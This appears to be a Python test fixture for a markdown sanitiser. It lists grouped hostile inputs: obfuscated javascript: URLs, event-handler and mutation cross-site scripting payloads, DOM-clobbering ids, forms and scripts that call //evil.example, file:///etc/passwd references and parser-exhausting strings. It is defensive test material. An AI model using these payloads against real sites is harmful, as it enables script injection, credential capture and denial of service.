"""Hostile markdown, grouped: what has been used against markdown sites, sanitisers and renderers. Each must be refused or come out harmless."""

from __future__ import annotations

ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript:123", "javascript://%0aalert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)", "java&#9;script:alert(1)", "java&#10;script:alert(1)", "java&#13;script:alert(1)", "java&#0;script:alert(1)",
    "&#1;javascript:alert(1)", "&#32;javascript:alert(1)", "&#160;javascript:alert(1)", "java\tscript:alert(1)", "\u200bjavascript:alert(1)",
    "java\u200bscript:alert(1)", "java\u00adscript:alert(1)", "java\u2060script:alert(1)", "\ufeffjavascript:alert(1)", "javascript\u200b:alert(1)",
    "java&shy;script:alert(1)", "java&ZeroWidthSpace;script:alert(1)", "vbscript:msgbox(1)", "VBScript:x", "livescript:x", "mocha:x", "data:text/html,<b>x",
    "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg/onload=alert(1)>", "data:,x", "DATA:text/html,x", "blob:https://x/1", "file:///etc/passwd",
    "filesystem:https://x/", "view-source:javascript:alert(1)", "feed:javascript:alert(1)", "jar:http://x!/", "ws://evil.example", "ftp://evil.example",
    "intent://x#Intent;end", "about:blank", "//evil.example", "///evil.example", "////evil.example", "\\\\evil.example", "/\\evil.example", "\\/evil.example",
    "/&#9;/evil.example", "/&#x5c;evil.example", "/\t/evil.example", "https:\\\\evil.example", ":javascript:alert(1)", "x:y", "%6aavascript:alert(1)",
    "javascript%3Aalert(1)", "http://[::1", "http://[x]y/", "https://a@evil.example", "mailto:a@b?body=<script>", "tel:javascript:1", "?javascript:alert(1)",
    "#javascript:alert(1)", "./javascript:alert(1)", "ｊavascript:alert(1)", "javascript：alert(1)", "javaſcript:alert(1)", "\u202ejavascript:alert(1)",
]  # fmt: skip

LINK_SHAPES = [
    "[a]({})",
    "[a](<{}>)",
    "<{}>",
    "[a][r]\n\n[r]: {}",
    "[a][r]\n\n[r]: <{}>",
    '<a href="{}">a</a>',
    "<a href={}>a</a>",
    "![a]({})",
    '<img src="{}">',
    "[![a]({0})]({0})",
]

HANDLERS = [
    '<p onclick="alert(1)">a</p>', "<p ONCLICK=alert(1)>a</p>", '<img src=x onerror="alert(1)">', "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    '<img src="x` `"` `onerror=alert(1)>', "<img \x0bonerror=alert(1) src=x>", '<body onload="alert(1)">', "<details open ontoggle=alert(1)>a</details>",
    '<a href="#" onmouseover="alert(1)">a</a>', "<b onfocus=alert(1) tabindex=1 autofocus>a</b>", '<input autofocus onfocus="alert(1)">',
    "<video><source onerror=alert(1)>",
    '<audio src=x onerror="alert(1)">', "<marquee onstart=alert(1)>a</marquee>", '<p style="animation-name:x" onanimationstart="alert(1)">a</p>',
    '<p on\u00adclick="alert(1)">a</p>', '<p foo="bar"onclick="alert(1)">a</p>', "<p/onclick=alert(1)//>a", '<p title="a" onclick=alert`1`>a</p>',
    "<table onclick=x><tr onclick=x><td onclick=x>a",
    "<xss onpointerrawupdate=alert(1)>a</xss>", '<p data-x="1" aria-hidden="true" role="alert" slot=x part=x is=x>a</p>', "<p popover popovertarget=x>a</p>",
]  # fmt: skip

ELEMENTS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>", "<script>alert(1)", "</script><script>alert(1)</script>", "<script><!--<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><foreignObject><p onclick=x>a</p></foreignObject></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><use href='data:image/svg+xml,x#x'/></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>", "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<math href='javascript:alert(1)'>a</math>",
    "<math><maction actiontype='statusline#http://x' xlink:href='javascript:alert(1)'>a</maction></math>",
    "<style>@import '//evil.example/x.css';</style>", "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0;background:url(//evil.example)">a</p>', '<p style="width:expression(alert(1))">a</p>',
    "<link rel=stylesheet href=//evil.example>", "<link rel=prefetch href=//evil.example>",
    "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=//evil.example>", "<frame src=x>",
    "<frameset onload=alert(1)>",
    "<form action='//evil.example'><input name=pin><button>Go</button></form>", "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>a</button>", "<isindex action=javascript:alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea>", "<select><option onclick=x>a</select>", "<label for=x>a</label>",
    "<fieldset><legend>a</legend></fieldset>", "<output>a</output>",
    "<base href='//evil.example/'>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<meta charset=utf-7>", "<title>taken</title>",
    "<html manifest=x><head><body bgcolor=x>",
    "<object data='javascript:alert(1)'></object>", "<embed src='//evil.example/x.swf'>", "<applet code=x>", "<param name=x value=javascript:alert(1)>",
    "<video poster=//evil.example src=x>", "<picture><source srcset=//evil.example/x.png><img src=x></picture>",
    "<img srcset='//evil.example/x.png 1x'>", "<img lowsrc=javascript:alert(1)>", "<img usemap=#m><map name=m><area href=javascript:alert(1)></map>",
    "<table background=javascript:alert(1)><tr><td background=x>a</table>",
    "<template><img src=x onerror=alert(1)></template>", "<template shadowrootmode=open><style>*{}</style></template>", "<slot name=x>a</slot>",
    "<portal src=//evil.example>", "<dialog open>a</dialog>", "<canvas id=x>", "<blink>a</blink>", "<keygen>", "<bgsound src=javascript:alert(1)>",
    "<layer src=x>", "<xml id=x><a>b</a></xml>", "<plaintext>a", "<xmp><img src=x onerror=alert(1)></xmp>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<noembed><img src=x onerror=alert(1)></noembed>",
    "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)> -->", "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href='javascript:alert(1)'?>", "<?php echo 1 ?>", "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<%= x %>", "{{ config }} {% include 'x' %}", "</p></div></main><main>", "</body></html><p onclick=x>",
    "<b><p></b><i onclick=x></p>",
]  # fmt: skip

MUTATIONS = [
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><p><style><!--</style><img src=x onerror=alert(1)>--></p></annotation-xml></math>",
    "<svg><desc><title><style><a id='</style><img src=x onerror=alert(1)>'></title></desc></svg>",
    "<p title='<noscript><style></noscript><img src=x onerror=alert(1)>'>a</p>", "<style><style/><img src=x onerror=alert(1)>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>", "<textarea><a title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<noembed><a title='</noembed><img src=x onerror=alert(1)>'>", "<noframes><a title='</noframes><img src=x onerror=alert(1)>'>",
    "<xmp><a title='</xmp><img src=x onerror=alert(1)>'></xmp>", "<iframe><a title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<template><a title='</template><img src=x onerror=alert(1)>'></template>", "<a><svg><a title='</a><img src=x onerror=alert(1)>'>",
    "<table><a><table><td><a title='</table><img src=x onerror=alert(1)>'>",
    "<select><style><a title='</style></select><img src=x onerror=alert(1)>'></select>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<svg/><img title='</title><img src=x onerror=alert(1)>' />",
    "`<img src=x onerror=alert(1)>`", "<p title=`</p><img src=x onerror=alert(1)>`>", "<p id='\"><img src=x onerror=alert(1)>'>a</p>",
    "<a title=\"a&quot;onmouseover=alert(1)//\">a</a>", "<p title='&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;'>a</p>",
    "<dl><dt><style></dt><img src=x onerror=alert(1)></style></dl>",
    "<li><a title='</li>\n\n<img src=x onerror=alert(1)>'>", "<details><summary><svg></summary><style><img src=x onerror=alert(1)></style>",
    "<q cite='javascript:alert(1)'>a</q>", "<blockquote cite='javascript:alert(1)'>a</blockquote>", "<del cite='javascript:alert(1)' datetime=x>a</del>",
]  # fmt: skip

ATTRIBUTE_LISTS = [
    "a\n{: onclick=alert(1) }", "a\n{: onclick='alert(1)' style='x' }", "# a {: onload=alert(1) }", "*a*{: onmouseover=alert(1) }",
    "[a](b){: href='javascript:alert(1)' }", "[a](b){: target=_blank rel=opener }", "![a](b){: src='//evil.example/x.png' }",
    "![a](/static/a.png){: srcset='//evil.example' onerror=alert(1) }",
    "[a](b){: href='//evil.example' download ping='//evil.example' }", "a\n{: #sr-main .x }", "a\n{: .js-enabled .nav .hidden }", "a\n{: .confirm .evil }",
    "a\n{: class='confirm evil' }", "a\n{: id='sr-ask' }", "a\n{: #location }", "a\n{: #Upper }", "a\n{: #1st }", "a\n{: id='a b' }",
    "a\n{: id='\"><script>' }", "a\n{: title='\"><img src=x onerror=alert(1)>' }", "a\n{: lang='\"><b' dir=rtl }",
    "a\n{: contenteditable accesskey=x hidden }", "a\n{: http-equiv=refresh }", "| a |\n|---|\n| b {: onclick=alert(1) } |", "- a\n{: onclick=alert(1) }",
    "a\n:   b\n{: onclick=alert(1) }", "> a\n{: style='position:fixed' }", "## a {#x onclick=alert(1)}", "## a {: #x style=color:red }", "## a {#sr-x}",
    "a\n{: xmlns='http://www.w3.org/2000/svg' }", "a\n{: __proto__=x constructor=y }", "a\n{: " + "x=1 " * 500 + "}", "a {: {: {: .x } } }",
    "a\n{: }\n{: onclick=x }", "a\n{: class=&#34;onclick=x }",
]  # fmt: skip

IDS = [
    f'<p id="{name}">a</p>'
    for name in ("sr-main", "SR-main", "sr-", "cookie", "forms", "x y", "x.y", "x:y", "", "1", "-x", "é", "x\u200b", "a" * 65, "x'y", "__proto__")
] + [
    '<a name="sr-main">a</a>', '<img name="getElementById" src="/static/a.png" alt="a">', '<p id="x" id="sr-y">a</p>', '<p ID="sr-x">a</p>',
    '<a id=a><a id=a name=b href=x>a</a>',
]  # fmt: skip

IMAGES = [
    "![a](https://evil.example/pixel.png)", "![a](http://evil.example/a.png)", "![a](//evil.example/a.png)", "![a](data:image/png;base64,AA==)",
    "![a](/static/../admin)", "![a](/static/%2e%2e/admin)", "![a](/static/a.png?track=1)", "![a](/static/a.png#x)", "![a](/staticx/a.png)",
    "![a](static/a.png)", "![a](/guidance/nmc/x)", "![a](/static//evil.example/a.png)", "![a](/static/..%5cadmin)", "![a](/static/\\..\\admin)",
    "![a](HTTPS://EVIL.EXAMPLE/a.png)", "![a](/static/a.svg){: onload=x }", "<img src=/static/a.png width=99999999 height='1\"onload=x'>",
    "![](<javascript:alert(1)>)", '![a" onerror="alert(1)](/static/a.png)', "![a](/static/a.png 'b\" onerror=\"alert(1)')",
]  # fmt: skip

CHARACTERS = [
    "\ud800", "a\udfffb", "\ud83d\ud83d", "\0", "a\0b", "\x01", "\x02klzzwxh:0001\x03", "\x02amp\x03", "\x02wzxhzdk:0\x03", "\x1b[2J", "\x7f", "\x85",
    "\x9b31m", "\u202etxt.exe", "\u2066x", "\ufffe", "\uffff", "&#0;", "&#1;", "&#2;klzzwxh:0000&#3;", "&#8;", "&#11;", "&#12;", "&#127;", "&#x80;",
    "&#x85;", "&#xD800;", "&#x110000;", "&#99999999999;", "&#8238;x", "&#x2066;x", "&#xFFFE;", "&#xFFFF;", "\u2028<script>\u2029", "\ufeff# a",
    "a\u0300" * 500, "＜script＞alert(1)＜/script＞", "%3Cscript%3E", "\\u003cscript\\u003e", "+ADw-script+AD4-", "&LT;script&GT;",
    "&lt;img src=x onerror=alert(1)&gt;",
]  # fmt: skip

BOMBS = {
    "open brackets": "[" * 20_000, "open images": "![" * 20_000, "open links": "[a](" * 20_000, "nested links": "[a](b " * 5_000,
    "bracket pairs": "[]" * 50_000, "references": "[a][b]" * 20_000, "stars": "*" * 50_000, "stars apart": "* " * 50_000,
    "half emphasis": "*a " * 30_000, "half strong": "a**b" * 30_000, "mixed emphasis": "*a **b ***c " * 9_000, "underlines": "_a __b " * 15_000,
    "alternating": "*_" * 40_000, "quotes": ">" * 20_000, "quote lines": "> a\n" * 40_000,
    "quote stairs": "\n".join(">" * (n % 15 + 1) + " a" for n in range(9_000)),
    "backticks": "`" * 50_000, "backtick stairs": " ".join("`" * n for n in range(1, 600)), "half code": "`a " * 40_000,
    "deep lists": "\n".join("    " * n + "- a" for n in range(200)), "list stairs": "\n".join("    " * (n % 14) + "- a" for n in range(5_000)),
    "long list": "- a\n" * 40_000, "loose list": "- a\n\n" * 30_000, "numbered": "1. a\n" * 30_000, "list of paragraphs": "- a\n\n    b\n\n" * 12_000,
    "definitions": "a\n:   b\n\n" * 3_000, "definitions of one term": "a\n" + ":   b\n" * 3_000, "terms": "a\n" * 60_000 + ":   b",
    "deep definitions": "\n".join("    " * n + ":   a" for n in range(200)), "wide table": "a|" * 20_000 + "\n" + "-|" * 20_000 + "\n" + "a|" * 20_000,
    "many tables": "a|b\n-|-\n1|2\n\n" * 13_000, "long table": "a|b\n-|-\n" + "1|2\n" * 40_000, "pipes": "|" * 190_000,
    "pipes and ticks": "a|`" * 40_000 + "\n-|-\n",
    "headings": "# a\n" * 40_000, "anchored headings": "".join(f"## a {{#x{n}}}\n\n" for n in range(9_000)), "underlined headings": "a\n=\n" * 40_000,
    "attributes": "a\n{: " + "b=c " * 40_000 + "}", "open attributes": "{:" * 90_000, "attribute quotes": "# a {: " + 'a="' * 40_000,
    "attribute spaces": "a\n{:" + " " * 190_000 + "x", "marked words": "*a*{: .confirm }" * 9_000,
    "abbreviations": "".join(f"*[A{n}]: x\n" for n in range(9_000)) + "A1 " * 9_000, "long abbreviation": "*[" + "a" * 60_000 + "]: x\n\n" + "a" * 60_000,
    "abbreviation of signs": "*[" + "(" * 5_000 + "]: x\n\n" + "(" * 5_000,
    "link definitions": "".join(f"[a{n}]: https://x.example\n" for n in range(6_000)), "link uses": "[a]: https://x.example\n\n" + "[a] " * 40_000,
    "link title": '[a](b "' + '"' * 90_000 + ")", "link titles": "[a](b " + '"c ' * 40_000 + ")", "link brackets": "[a](" + "(" * 90_000,
    "open anchors": "<a " * 40_000, "signs": "<" * 190_000, "anchors": "<a>" * 50_000, "bold": "<b>" * 50_000, "bold and italic": "<i><b>" * 25_000,
    "blocks": "<div>" * 38_000, "blocks apart": "<div>\n\n" * 25_000, "nested tables": "<table><tr><td>" * 12_000, "closing": "</a>" * 45_000,
    "half closing": "</" * 90_000, "comments": "<!--" * 45_000, "declarations": "<!" * 90_000, "instructions": "<?" * 90_000,
    "cdata": "<![CDATA[" * 20_000, "adoption": "<b>" * 300 + "<p>x</b></b>" * 3_000, "fonts": "".join(f"<font size={n}>" for n in range(9_000)),
    "formatting": "".join(f"<b id=a{n}>" for n in range(6_000)) + "<p>" * 6_000, "misnested": "<a><b><i><s><p>" * 9_000,
    "attributes of one": "<a " + " ".join(f"x{n}=1" for n in range(20_000)) + ">", "bare attributes": "<a " + "x " * 90_000 + ">",
    "foreign": "<svg><math>" * 15_000, "forms": "<form><select><option>" * 8_000, "scripts": "<script>" * 22_000, "preformatted": "<pre>\n" * 30_000,
    "ampersands": "&" * 190_000, "entities": "&amp;" * 38_000, "numbers": "&#x41;" * 30_000, "long entity": "&" + "a" * 190_000,
    "backslashes": "\\" * 190_000, "escapes": "\\[" * 90_000, "spaces": " " * 190_000, "tabs": "\t" * 190_000, "spaces at the end": "a" + " " * 190_000,
    "lines of spaces": (" " * 50 + "\n") * 3_800, "empty lines": "\n" * 190_000, "lines": "a\n" * 95_000, "paragraphs": "a\n\n" * 63_000,
    "long word": "a" * 199_000, "rules": "---\n\n" * 38_000, "long rule": "- " * 95_000, "rule that is none": "* * " * 45_000 + "a",
    "code": "    a\n" * 30_000, "code apart": "    a\n\n" * 27_000, "hashes": "#" * 190_000, "hash ends": "# a " + "#" * 190_000 + " b",
    "pictures": "![a](b)" * 28_000, "mail": "<a@b.example>" * 15_000, "breaks": "a  \n" * 45_000, "HTML breaks": "<br>" * 45_000,
    "quote marks": '"' * 190_000, "accents": "a" + "\u0301" * 90_000, "faces": "\U0001f600" * 49_000, "equal signs": "a=" * 90_000,
    "at signs": "@" * 190_000, "colons": "a\n" + ":" * 190_000, "too large": "word " * 40_001,
    "doubling": "".join(f"*[{'A' * n}]: {'A' * (n + 1)}\n" for n in range(1, 200)) + "\nA",
}  # fmt: skip

GROUPS: dict[str, list[str]] = {
    "address": [shape.format(address) for address in ADDRESSES for shape in LINK_SHAPES],
    "handler": HANDLERS,
    "element": ELEMENTS,
    "mutation": MUTATIONS,
    "attribute list": ATTRIBUTE_LISTS,
    "id": IDS,
    "image": IMAGES,
    "character": CHARACTERS,
}
